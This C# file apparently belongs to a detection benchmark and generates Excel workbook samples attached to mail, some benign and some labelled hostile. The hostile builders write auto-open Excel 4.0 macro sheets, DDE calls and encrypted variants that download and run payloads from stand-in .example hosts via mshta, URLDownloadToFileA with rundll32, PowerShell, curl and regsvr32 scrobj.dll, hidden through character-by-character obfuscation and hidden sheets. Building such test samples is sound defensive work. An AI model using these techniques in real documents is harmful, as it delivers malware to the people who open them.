using Platform.Benchmarks.Detection.Samples.Office.Writers;
using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Office;

/// <summary>Workbooks with Excel 4.0 macros that load and start, in both formats, in clear and encrypted; and workbooks with honest ones or none.</summary>
internal sealed class MacroSheetBooks : ISampleKind
{
    public string Name => "macro-sheet";

    public IEnumerable<Sample> Make(Random random)
    {
        yield return Hostile(random, "xls with a macro sheet", "xls", Binary(random).ToFile(), "excel4-suspicious", "behaviour-installs", "behaviour-execute");
        yield return Hostile(random, "xls with formulas that write formulas", "xls", Writing(random).ToFile(), "excel4-suspicious", "behaviour-installs", "behaviour-execute");
        yield return Hostile(random, "encrypted xls with a macro sheet", "xls", Binary(random).ToFile("VelvetSweatshop", random.Bytes(16)), "excel4-suspicious", "behaviour-installs", "behaviour-execute");
        yield return Hostile(random, "xlsm with a macro sheet", "xlsm", Package(random), "excel4-suspicious", "behaviour-installs", "behaviour-execute");
        yield return Hostile(random, "encrypted xlsm with a macro sheet", "xlsx", AgileWriter.Encrypt(Package(random), "VelvetSweatshop", random), "excel4-suspicious", "behaviour-installs", "behaviour-execute");
        yield return Hostile(random, "xlsb with a macro sheet", "xlsb", Records(random), "excel4-suspicious", "behaviour-installs", "behaviour-execute");
        yield return Hostile(random, "xls that asks a program by DDE", "xls", Plain(random).Service(random.Pick(["cmd", "CMD.exe", "MSEXCEL"]), random.Pick(["/c ", @"\..\..\..\Windows\System32\cmd.exe /c "]) + $"mshta https://{random.Word()}.example/{random.Word()}").ToFile(), "dynamic-data-exchange");

        yield return Benign(random, "xls", "xls", Plain(random).ToFile());
        yield return Benign(random, "xls with hidden sheets", "xls", Plain(random).Sheet("Lists", hidden: 1).Text(0, 0, random.Word()).Sheet("Settings", hidden: 2).Text(0, 0, random.Word()).ToFile());
        yield return Benign(random, "xls with a macro sheet of old", "xls", Plain(random).Sheet("Macro1", macro: true).Text(0, 0, "Sort").Formula(1, 0, XlmTokens.Call(0x8027, XlmTokens.Number(1))).Formula(2, 0, XlmTokens.Call(XlmTokens.Alert, XlmTokens.Text("Done"))).Formula(3, 0, XlmTokens.Call(55)).ToFile());
        yield return Benign(random, "xlsb", "xlsb", new Biff12Writer().Sheet("Plan").Text(0, 0, random.Word()).Formula(0, 1, XlmTokens.Call(4, XlmTokens.Number(random.Next(99)), XlmTokens.Number(2))).ToArray());
        yield return Benign(random, "xls with quotations", "xls", Plain(random).Service("RSS", $"{random.Next(1_000, 9_999)}.T").ToFile());
        yield return Benign(random, "xlsx encrypted for its reader", "xlsx", AgileWriter.Encrypt(new OoxmlWriter().Sheet("Sheet1", [("A1", random.Word())]).ToArray(), random.Word(), random));
    }

    private static Sample Hostile(Random random, string name, string extension, byte[] file, params IReadOnlyList<string> reasons) =>
        Sample.Hostile(name, SampleMail.With(random, new SampleFile($"{random.Word()}.{extension}", file)), [AttackType.Behaviour], reasons);

    private static Sample Benign(Random random, string name, string extension, byte[] file) =>
        Sample.Benign(name, SampleMail.With(random, new SampleFile($"{random.Word()}.{extension}", file)));

    private static BiffWriter Plain(Random random)
    {
        var book = new BiffWriter().Sheet(random.Pick(["Sheet1", "Plan", "集計"]));
        for (var row = 0; row < random.Next(3, 30); row++)
            book.Text(row, 0, random.Word()).Value(row, 1, random.Next(100_000) / 4.0).Formula(row, 2, XlmTokens.Call(4, XlmTokens.Cell(row, 1), XlmTokens.Number(random.Next(9))));
        return book;
    }

    private static BiffWriter Binary(Random random)
    {
        var book = Plain(random).Sheet(random.Word(), macro: true, hidden: random.Next(3));
        var (row, column) = (random.Next(200), random.Next(60));
        var path = $@"C:\{random.Word()}\{random.Word()}.dll";
        byte[][] lines = random.Next(2) == 0
            ? [XlmTokens.Call(XlmTokens.Exec, Hidden(random, $"cmd /c mshta https://{random.Word()}.example/{random.Word()}.hta"))]
            : [
                XlmTokens.Call(XlmTokens.ForeignCall, Hidden(random, "urlmon"), Hidden(random, "URLDownloadToFileA"), XlmTokens.Text("JJCCJJ"), XlmTokens.Number(0), Hidden(random, $"https://{random.Word()}.example/{random.Word()}.png"), Hidden(random, path), XlmTokens.Number(0), XlmTokens.Number(0)),
                XlmTokens.Call(XlmTokens.Exec, Hidden(random, $"rundll32 {path},DllRegisterServer")),
            ];
        var at = row;
        foreach (var line in lines)
            book.Formula(at++, column, line);
        book.Formula(at, column, XlmTokens.Call(XlmTokens.Halt));
        return random.Chance(0.7) ? book.Name("", 1, 1, row, column) : book.Name($"Auto_Open{random.Word()}", null, 1, row, column);
    }

    // Formulas that put the real ones together, character by character, and then go there.
    private static BiffWriter Writing(Random random)
    {
        var book = Plain(random).Sheet(random.Word(), macro: true, hidden: random.Next(1, 3));
        var command = $"=EXEC(\"powershell -nop -c iwr https://{random.Word()}.example/{random.Word()}\")";
        var pieces = command.Chunk(random.Next(6, 20)).Select(piece => new string(piece)).ToList();
        for (var piece = 0; piece < pieces.Count; piece++)
            book.Formula(piece, 3, Characters(random, pieces[piece]), pieces[piece]);
        var joined = Enumerable.Range(0, pieces.Count).Select(piece => XlmTokens.Cell(piece, 3)).Aggregate(XlmTokens.Join);
        var target = random.Next(60, 90);
        return book.Formula(50, 0, XlmTokens.Call(random.Pick([XlmTokens.Formula, XlmTokens.FormulaFill]), joined, XlmTokens.Cell(target, 0))).Formula(51, 0, XlmTokens.Fixed(XlmTokens.Goto, XlmTokens.Cell(target, 0))).Formula(target + 1, 0, XlmTokens.Call(XlmTokens.Halt)).Name("", 1, 1, 50, 0);
    }

    private static byte[] Hidden(Random random, string text) => random.Next(3) switch
    {
        0 => XlmTokens.Text(text),
        1 => text.Chunk(random.Next(2, 9)).Select(piece => XlmTokens.Text(new string(piece))).Aggregate(XlmTokens.Join),
        _ => Characters(random, text),
    };

    private static byte[] Characters(Random random, string text) =>
        text.Select(c => random.Chance(0.8) ? XlmTokens.Fixed(XlmTokens.Char, XlmTokens.Number(c)) : XlmTokens.Text(c.ToString())).Aggregate(XlmTokens.Join);

    private static byte[] Records(Random random)
    {
        var (row, column) = (random.Next(200), random.Next(60));
        var command = $"cmd /c curl https://{random.Word()}.example/{random.Word()} -o %TEMP%\\{random.Word()}.exe";
        var hidden = random.Chance(0.5)
            ? command.Chunk(random.Next(3, 9)).Select(piece => Biff12Writer.TextToken(new string(piece))).Aggregate(XlmTokens.Join)
            : command.Select(c => XlmTokens.Fixed(XlmTokens.Char, XlmTokens.Number(c))).Aggregate(XlmTokens.Join);
        return new Biff12Writer()
            .Sheet("Plan").Text(0, 0, random.Word())
            .Sheet(random.Word(), macro: true, hidden: random.Next(3)).Formula(row, column, XlmTokens.Call(XlmTokens.Exec, hidden)).Formula(row + 1, column, XlmTokens.Call(XlmTokens.Halt))
            .Name(random.Pick(["_xlnm.Auto_Open", $"auto_open{random.Word()}"]), 1, row, column)
            .ToArray();
    }

    private static byte[] Package(Random random)
    {
        var sheet = random.Word();
        var (row, column) = (random.Next(1, 200), random.Pick(["A", "C", "AB"]));
        var command = $"regsvr32 /s /i:https://{random.Word()}.example/{random.Word()} scrobj.dll";
        var hidden = random.Pick([$"\"{command}\"", string.Join('&', command.Chunk(5).Select(piece => $"\"{new string(piece)}\"")), string.Join('&', command.Select(c => $"CHAR({(int)c})")), "Plan!B7"]);
        return new OoxmlWriter()
            .Sheet("Plan", [("A1", random.Word()), ("B7", command)])
            .Sheet(sheet, [($"{column}{row}", $"=EXEC({hidden})"), ($"{column}{row + 1}", "=HALT()")], random.Pick(["hidden", "veryHidden", "visible"]), macro: true)
            .Name(random.Pick(["_xlnm.Auto_Open", "Auto_Open", $"auto_open{random.Word()}"]), $"{sheet}!${column}${row}")
            .ToArray();
    }
}
